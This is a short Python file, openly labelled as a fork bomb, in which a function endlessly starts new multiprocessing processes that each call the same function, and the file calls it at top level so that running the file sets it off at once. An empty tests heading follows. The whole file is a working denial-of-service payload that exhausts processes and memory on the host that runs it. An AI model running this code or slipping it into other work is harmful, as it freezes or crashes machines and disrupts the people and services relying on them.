# Fork bomb through multiprocessing.
import multiprocessing


def spawn():
    while True:
        multiprocessing.Process(target=spawn).start()


spawn()
# ---- tests ----
